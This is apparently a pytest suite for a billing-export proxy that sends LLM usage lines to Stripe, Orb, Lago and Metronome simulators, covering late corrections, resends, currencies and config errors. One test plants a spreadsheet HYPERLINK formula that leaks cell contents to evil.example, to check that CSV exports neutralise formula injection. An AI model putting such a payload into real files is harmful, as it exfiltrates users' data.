    world.call(CUSTOMERS[2], MODELS[0])
    open_event = world.proxy.one_new_event(mark)

    assert world.cli("export", "run", "--sink", "orb").returncode == 0
    lines = world.lines("orb")
    check_lines_match_events(world, lines)
    assert {line["period"] for line in lines} == {world.period}
    assert not any(open_event["id"] in line["event_ids"] for line in lines)
    start, end = month_range(world.period)
    assert all(start <= iso_seconds(line["usage_time"]) < end for line in lines)
    world.check_revenue(lines)
    assert sorted(billing.orb_events) == sorted(line["key"] for line in lines)
    for line in lines:
        assert start <= iso_seconds(billing.orb_events[line["key"]]["timestamp"]) < end

    # A late event for the exported month: exactly one correction, billed now, naming the original period.
    before_late = time.time()
    late = world.late_call(CUSTOMERS[1], MODELS[1])
    world.move_to_last_month([late])
    assert world.cli("export", "run", "--sink", "orb").returncode == 0
    after = world.lines("orb")
    new = [line for line in after if line["key"] not in {line["key"] for line in lines}]
    assert len(new) == 1, new
    correction = new[0]
    assert (correction["version"], correction["correction"], correction["period"]) == (1, True, world.period)
    assert correction["customer"] == CUSTOMERS[1] and correction["event_ids"] == [late["id"]]
    assert Decimal(correction["amount"]) == Decimal(late["price"])
    assert iso_seconds(correction["usage_time"]) >= int(before_late), "a correction is billed when it is staged"
    sent = billing.orb_events[correction["key"]]
    assert sent["properties"]["correction"] == "true" and sent["properties"]["original_period"] == world.period
    assert sent["properties"]["period"] == world.period
    assert abs(iso_seconds(sent["timestamp"]) - iso_seconds(correction["usage_time"])) < 1
    assert len(billing.orb_events) == len(lines) + 1
    world.check_revenue(after)

    # Nothing left: another run adds nothing, and the open month is still not exported.
    assert world.cli("export", "run", "--sink", "orb").returncode == 0
    assert world.lines("orb") == after
    assert len(billing.orb_events) == len(lines) + 1


def test_serve_exports_closed_months_on_schedule_across_a_kill(billing: BillingSimulator, make_world) -> None:
    world = make_world(
        sink_yaml("stripe", "stripe", billing.origin) + "export: {interval_s: 1, sinks: [stripe]}\n",
        external={"stripe": CUSTOMERS})
    billing.configure(slow_after=1.0, delay_s=0.3)
    world.move_to_last_month(world.events)

    # The proxy exports the closed month by itself; it is killed while a line's answer is on its way.
    wait_for(lambda: len(billing.stripe_invoice_items) >= 3, 15, "the proxy to export on its schedule")
    billing.configure(**FAULTS)
    world.kill_and_restart()
    total = len(CUSTOMERS) * len(MODELS)
    wait_for(lambda: world.status()["stripe"]["sent"] == total, 30, "the restarted proxy to send every line")

    lines = world.lines("stripe")
    check_lines_match_events(world, lines)
    items = billing.stripe_invoice_items
    assert sorted(item["idempotency_key"] for item in items) == sorted(line["key"] for line in lines)
    assert billing.duplicates, "the line killed mid-answer was never resent"
    world.check_revenue([item["metadata"] for item in items])


@pytest.mark.parametrize("system", API_SYSTEMS)
def test_resend_of_a_processed_batch_with_a_new_line(billing: BillingSimulator, make_world, system: str) -> None:
    """A batch processed but never answered, resent later together with a new line: the receiver has all but one."""
    world = make_world(sink_yaml(system, system, billing.origin), external={system: CUSTOMERS})
    billing.configure(sequence=("drop_after",))
    first = world.export(system, "--no-wait", check=False)
    assert first.returncode != 0, "lines left failed must make the run fail"
    lines = world.lines(system)
    assert {line["state"] for line in lines} == {"failed"}
    assert sorted(received(billing, system)) == sorted(line["key"] for line in lines), "the batch was not processed"

    late = world.late_call(CUSTOMERS[0], MODELS[1])
    billing.configure()
    assert world.export(system).returncode == 0
    after = world.lines(system)
    assert len(after) == len(lines) + 1 and {line["state"] for line in after} == {"sent"}
    got = received(billing, system)
    assert sorted(got) == sorted(line["key"] for line in after)
    correction = after[-1]
    assert correction["version"] == 1
    assert Decimal(got[correction["key"]]["properties"]["amount"]) == Decimal(late["price"])
    world.check_revenue([event["properties"] for event in got.values()])
    if system == "lago":
        # Lago refuses the whole batch for the keys it has (422); the sink resends the rest alone.
        statuses = [(record["status"], len(request_keys(record))) for record in billing.requests]
        assert (422, len(after)) in statuses and statuses[-1] == (200, 1), statuses


# --- currencies --------------------------------------------------------------------------------------------------

JPY_BOOK = """\
name: yen
currency: JPY
rates:
  gpt-4o-mini: {input: "45", output: "180"}
  gpt-4o: {input: "375", output: "1500"}
per_request: "18.5"
"""

KWD_BOOK = """\
name: dinar
currency: KWD
rates:
  gpt-4o-mini: {input: "0.046", output: "0.184"}
  gpt-4o: {input: "0.77", output: "3.08"}
per_request: "0.0382718"
"""

CURRENCY_PRICING = """\
pricing:
  price_books: books
  default_price_book: standard
  customers:
    cust-beta: {price_book: dinar}
    cust-gamma: {price_book: yen}
"""


def test_amounts_in_currencies_with_zero_two_and_three_minor_digits(billing: BillingSimulator, make_world) -> None:
    world = make_world(
        sink_yaml("stripe", "stripe", billing.origin) + sink_yaml("lago", "lago", billing.origin),
        external={"stripe": CUSTOMERS, "lago": CUSTOMERS}, books={"yen": JPY_BOOK, "dinar": KWD_BOOK},
        pricing=CURRENCY_PRICING, calls_per_pair=2)
    assert world.export("stripe").returncode == 0
    assert world.export("lago").returncode == 0
    digits = MINOR_DIGITS
    currencies = {CUSTOMERS[0]: "USD", CUSTOMERS[1]: "KWD", CUSTOMERS[2]: "JPY"}
    _, revenue = world.revenue()

    lines = world.lines("stripe")
    check_lines_match_events(world, lines)
    items = {item["idempotency_key"]: item for item in billing.stripe_invoice_items}
    assert sorted(items) == sorted(line["key"] for line in lines)
    for line in lines:
        currency = currencies[line["customer"]]
        assert line["currency"] == currency
        item = items[line["key"]]
        assert item["currency"] == currency.lower()
        due = minor_units(Decimal(line["amount"]), digits[currency])
        assert int(item["amount"]) == due, (currency, line["amount"], item["amount"])
        assert Decimal(line["amount_due"]) == Decimal(due) / 10 ** digits[currency]
    for customer, currency in currencies.items():
        assert exact_sum(line["amount"] for line in lines if line["customer"] == customer) == revenue[customer]

    lago = world.lines("lago")
    for line in lago:
        event = billing.lago_events[line["key"]]
        assert Decimal(event["precise_total_amount_cents"]) == Decimal(line["amount"]) * 10 ** digits[line["currency"]]
        assert event["properties"]["currency"] == line["currency"]


def test_two_runs_at_once_send_each_line_once(billing: BillingSimulator, make_world) -> None:
    """A scheduled run overlapping a manual one (two processes on one meter): both finish, the receiver has each
    line once."""
    world = make_world(sink_yaml("stripe", "stripe", billing.origin), external={"stripe": CUSTOMERS})
    billing.configure(slow=0.5, delay_s=0.2)
    command = [str(TOLLGATE_BIN), "export", "run", "--sink", "stripe", "--period", world.period,
               "--config", str(world.proxy.config_path)]
    runs = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    outputs = [run.communicate(timeout=CLI_TIMEOUT * 2) for run in runs]
    for run, (stdout, stderr) in zip(runs, outputs):
        assert run.returncode == 0, f"exit {run.returncode}\nstdout:\n{stdout}\nstderr:\n{stderr}"
    lines = world.lines("stripe")
    check_lines_match_events(world, lines)
    assert {line["state"] for line in lines} == {"sent"}
    assert sorted(invoice_item_keys(billing)) == sorted(line["key"] for line in lines)


# --- customers' ids, plan fees, refusals, config -----------------------------------------------------------------


def test_ids_from_the_config_the_meter_and_a_custom_id_system(billing: BillingSimulator, make_world) -> None:
    pricing = PRICING + (
        "  customers:\n"
        "    cust-alpha: {external_ids: {crm: crm-alpha-from-config}}\n"
        "    cust-beta: {external_ids: {crm: crm-beta-from-config}}\n"
    )
    world = make_world(sink_yaml("orb", "orb", billing.origin, customer_id_system="crm"), pricing=pricing)
    world.set_external(CUSTOMERS[1], "crm", "crm-beta-from-meter")
    world.set_external(CUSTOMERS[2], "orb", "orb-gamma")  # the sink's type is not where it looks

    assert world.export("orb").returncode == 0
    lines = world.lines("orb")
    held = [line for line in lines if line["state"] == "held"]
    assert {line["customer"] for line in held} == {CUSTOMERS[2]}
    fix = f"--customer {CUSTOMERS[2]} --external crm="
    assert all(fix in line["last_error"] for line in held), held[0]["last_error"]
    customers = {event["properties"]["customer"]: event["external_customer_id"]
                 for event in billing.orb_events.values()}
    assert customers == {CUSTOMERS[0]: "crm-alpha-from-config", CUSTOMERS[1]: "crm-beta-from-meter"}


BASE_FEE_BOOK = BOOK + 'base_fee: "5.00"\n'


@pytest.mark.parametrize("mode", ["invoice_items", "meter_events"])
def test_plan_fee_lines_in_each_stripe_mode(billing: BillingSimulator, make_world, mode: str) -> None:
    world = make_world(sink_yaml("stripe", "stripe", billing.origin, mode=mode), external={"stripe": CUSTOMERS},
                       books={"standard": BASE_FEE_BOOK})
    result = world.export("stripe")
    assert result.returncode == 0
    lines = world.lines("stripe")
    fees = [line for line in lines if line["kind"] == "base_fee"]
    assert sorted(line["customer"] for line in fees) == sorted(CUSTOMERS)
    assert all(Decimal(line["amount"]) == 5 for line in fees)
    usage = [line for line in lines if line["kind"] == "usage"]
    _, revenue = world.revenue()
    for customer in CUSTOMERS:
        assert exact_sum(line["amount"] for line in usage if line["customer"] == customer) == revenue[customer]
    if mode == "invoice_items":
        assert {line["state"] for line in lines} == {"sent"}
        items = {item["idempotency_key"]: item for item in billing.stripe_invoice_items}
        assert sorted(items) == sorted(line["key"] for line in lines)
        assert all(items[line["key"]]["amount"] == "500" for line in fees)
    else:
        # A fee has no usage to count: held with a reason saying where to bill it; the usage lines went out.
        assert {line["state"] for line in fees} == {"held"}
        assert all("invoice_items" in line["last_error"] for line in fees), fees[0]["last_error"]
        assert {line["state"] for line in usage} == {"sent"}
        assert sorted(billing.stripe_meter_events) == sorted(line["key"] for line in usage)


@pytest.mark.parametrize(("system", "skew_s", "message"), [
    ("orb", 2 * 86400, "more than 1 hour ahead"),
    ("metronome", 2 * 86400, "more than 24 hours ahead"),
    ("stripe", 86400, "at most 5 minutes in the future"),
])
def test_refused_lines_go_dead_with_the_systems_reason(billing: BillingSimulator, make_world, system: str,
                                                      skew_s: int, message: str) -> None:
    """The receiver's clock is behind, so every usage time is in its future: each line is refused with the system's
    own message, dead at once (no retries), and sent after the cause is gone and the dead lines are retried."""
    extra = {"mode": "meter_events"} if system == "stripe" else {}
    world = make_world(sink_yaml(system, system, billing.origin, **extra), external={system: CUSTOMERS})
    billing.configure(now=time.time() - skew_s)
    result = world.export(system, check=False)
    assert result.returncode != 0
    lines = world.lines(system)
    assert {line["state"] for line in lines} == {"dead"}
    assert all(line["attempts"] == 1 and message in line["last_error"] for line in lines), lines[0]
    assert message in world.status()[system]["last_error"]
    assert message in result.stdout, "the summary does not show why lines are dead"

    billing.configure()
    world.cli("export", "retry", "--dead", "--sink", system)
    assert world.export(system).returncode == 0
    assert {line["state"] for line in world.lines(system)} == {"sent"}
    kept = billing.stripe_meter_events if system == "stripe" else received(billing, system)
    assert sorted(kept) == sorted(line["key"] for line in lines)


@pytest.mark.parametrize(("sinks", "message"), [
    ("  x: {type: paypal}\n", "unknown sink type 'paypal'"),
    ("  x: {type: lago, api_key: k}\n", "needs a base_url"),
    ("  x: {type: csv}\n", "needs a path"),
    ("  x: {type: lago, base_url: ftp://example.com}\n", "http(s) URL"),
    ("  x: {type: orb, base_url: http://127.0.0.1:9, mode: meter_events}\n", "mode is for Stripe sinks"),
    (f"  x: {{type: stripe, base_url: http://127.0.0.1:9, event_name: {'e' * 101}}}\n", "1 to 100 characters"),
    ("  x: {type: csv, path: x.csv}\nexport: {sinks: [y]}\n", "'y'"),
])
def test_bad_sink_config_is_refused_with_its_line(tmp_path: Path, sinks: str, message: str) -> None:
    config = tmp_path / "tollgate.yaml"
    config.write_text(f'meter: {{path: "{tmp_path / "m.db"}"}}\nsinks:\n{sinks}')
    result = run_cli(config, "export", "status", check=False)
    assert result.returncode != 0
    assert message in result.stderr, result.stderr
    assert "tollgate.yaml:" in result.stderr, f"no file and line: {result.stderr}"


def test_default_run_bills_plan_fees_of_a_month_without_events(billing: BillingSimulator, make_world) -> None:
    """A plan's base fee is owed for every month, used or not (statements bill an empty period): a closed month in
    which no customer made a request must still be exported by a run without --period (and by serve's schedule)."""
    pricing = PRICING + "  customers:\n    cust-alpha: {price_book: plan}\n"
    world = make_world(sink_yaml("orb", "orb", billing.origin), external={"orb": CUSTOMERS}, pricing=pricing,
                       books={"plan": BASE_FEE_BOOK.replace("name: standard", "name: plan")})
    world.move_to_last_month(world.events, months_back=2)
    used = world.period
    last_month = time.strftime("%Y-%m", time.gmtime(month_range(time.strftime("%Y-%m", time.gmtime()))[0] - 86400))
    assert used < last_month

    assert world.cli("export", "run", "--sink", "orb").returncode == 0
    lines = world.lines("orb")
    fees = {line["period"]: line for line in lines if line["kind"] == "base_fee"}
    assert fees.get(used, {}).get("customer") == CUSTOMERS[0]
    assert last_month in fees, f"the base fee of {last_month} (no events) was never exported: {sorted(fees)}"


def test_a_month_that_has_not_begun_is_refused(billing: BillingSimulator, make_world) -> None:
    pricing = PRICING + "  customers:\n    cust-alpha: {price_book: plan}\n"
    world = make_world(sink_yaml("stripe", "stripe", billing.origin), external={"stripe": CUSTOMERS}, pricing=pricing,
                       books={"plan": BASE_FEE_BOOK.replace("name: standard", "name: plan")})
    _, end = month_range(world.period)
    future = time.strftime("%Y-%m", time.gmtime(end + 40 * 86400))
    result = world.cli("export", "run", "--sink", "stripe", "--period", future, check=False)
    assert billing.stripe_invoice_items == [], "a base fee was billed for a month that has not begun"
    assert result.returncode != 0 and "--period" in result.stderr
    assert world.lines("stripe") == []


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?"


def check_no_formula_cells(text: str, where: str) -> list[str]:
    """Every cell of a CSV text that starts like a formula is a plain number; returns all the cells."""
    import re

    cells = [cell for row in csv.reader(text.splitlines(keepends=True)) for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            assert re.fullmatch(PLAIN_NUMBER, cell), f"{where}: a formula cell reached the file: {cell!r}"
    return cells


@pytest.mark.parametrize("kind", ["csv", "focus"])
def test_formula_cells_are_neutralised_in_exports_reports_and_events(make_world, tmp_path: Path, kind: str) -> None:
    """Customer-controlled text (an external customer id, dimension headers) that a spreadsheet would run as a formula
    reaches every CSV Tollgate writes with a ' in front; negative and plain numbers stay numbers (OWASP CSV injection)."""
    template = tmp_path / "out" / "lines-{period}.csv"
    world = make_world(sink_yaml("file", kind, path=str(template)))
    hostile_id = '=HYPERLINK("http://evil.example/?leak="&A1,"invoice")'
    world.set_external(CUSTOMERS[0], kind, hostile_id)
    mark = {event["id"] for event in world.events}
    world.proxy.client(world.keys[CUSTOMERS[1]]).chat.completions.create(
        model=MODELS[0], messages=MESSAGES,
        extra_headers={"x-tollgate-feature": "=1+2", "x-tollgate-project": "@SUM(A1:A9)", "x-tollgate-end-user": "-2+3"})
    world.proxy.new_events(mark, count=1)

    assert world.export("file").returncode == 0
    text = Path(str(template).replace("{period}", world.period)).read_text()
    cells = check_no_formula_cells(text, f"{kind} export")
    assert "'" + hostile_id in cells, "the hostile external id is kept, as text"
    assert len(read_rows(Path(str(template).replace("{period}", world.period)), kind)) == len(world.lines("file"))

    events = world.cli("events", "--format", "csv").stdout
    cells = check_no_formula_cells(events, "tollgate events --format csv")
    assert {"'=1+2", "'@SUM(A1:A9)", "'-2+3"} <= set(cells), "dimension headers kept as text"

    report = world.cli("report", "margin", "--by", "feature", "--format", "csv").stdout
    assert "'=1+2" in check_no_formula_cells(report, "tollgate report margin --format csv")

    statement = world.cli("statement", "--customer", CUSTOMERS[1], "--period", world.period, "--format", "events-csv").stdout
    check_no_formula_cells(statement, "tollgate statement --format events-csv")
